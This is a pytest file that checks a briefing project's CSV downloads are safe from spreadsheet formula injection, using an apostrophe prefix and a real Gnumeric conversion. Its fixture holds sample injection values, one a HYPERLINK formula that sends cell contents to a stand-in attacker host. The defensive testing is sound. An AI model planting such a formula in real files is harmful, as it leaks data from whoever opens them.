"""CSV downloads are safe to open: a text a spreadsheet would run as a formula is neutralised as OWASP
recommends (a leading apostrophe), and a real spreadsheet program, opening the file, proves it."""

from __future__ import annotations

import os
import shutil
import subprocess

import pytest
from briefing.load.loader import load_briefing
from briefing.publish.downloads import download_files
from briefing.render.environment import Renderer
from conftest import copy_project

HOSTILE = {
    "AI and semiconductors": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Shipbuilding": "+1+1",
    "Quantum technology": "-2+3",
    "Synthetic biology and biotechnology": "@SUM(1,1)",
}


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory):
    project = copy_project(tmp_path_factory.mktemp("csv") / "project")
    fields = project / "data" / "fields.yml"
    text = fields.read_text(encoding="utf-8")
    for name, attack in HOSTILE.items():
        assert f"en: {name}\n" in text
        text = text.replace(f"en: {name}\n", f"en: '{attack}'\n", 1)
    fields.write_text(text, encoding="utf-8")
    renderer = Renderer(project, "en", load_briefing(project / "data"))
    files = {file.path: file.content for file in download_files(renderer)}
    path = tmp_path_factory.mktemp("out") / "strategic-fields.csv"
    path.write_bytes(files["downloads/strategic-fields.csv"])
    return path


def test_cells_that_would_be_formulas_start_with_an_apostrophe(hostile_csv):
    text = hostile_csv.read_bytes().decode("utf-8-sig")
    for attack in HOSTILE.values():
        assert f"'{attack}" in text.replace('""', '"')
    assert ",1," in text and ",2," in text  # numbers stay numbers (the field numbers)


@pytest.mark.filterwarnings("ignore:Workbook contains no default style")
def test_a_spreadsheet_opening_the_file_finds_no_formula(hostile_csv, tmp_path):
    """Gnumeric's ssconvert reads the CSV as a spreadsheet would and writes it as .xlsx; openpyxl then
    reads every cell back: none is a formula, the attacks are text, the numbers are numbers."""
    if not shutil.which("ssconvert"):
        if os.environ.get("CI"):
            pytest.fail("ssconvert (Debian's gnumeric) is not installed; .ci/run installs it", pytrace=False)
        pytest.skip("ssconvert is not installed: apt-get install gnumeric")
    from openpyxl import load_workbook

    xlsx = tmp_path / "fields.xlsx"
    subprocess.run(["ssconvert", str(hostile_csv), str(xlsx)], check=True, capture_output=True, timeout=120)
    sheet = load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {str(cell.value) for cell in cells}
    for attack in HOSTILE.values():
        assert attack in texts or f"'{attack}" in texts, attack  # shown as the text it is, not run
    numbers = [cell.value for cell in sheet["B"][1:]]
    assert numbers[:4] == [1, 2, 3, 4]
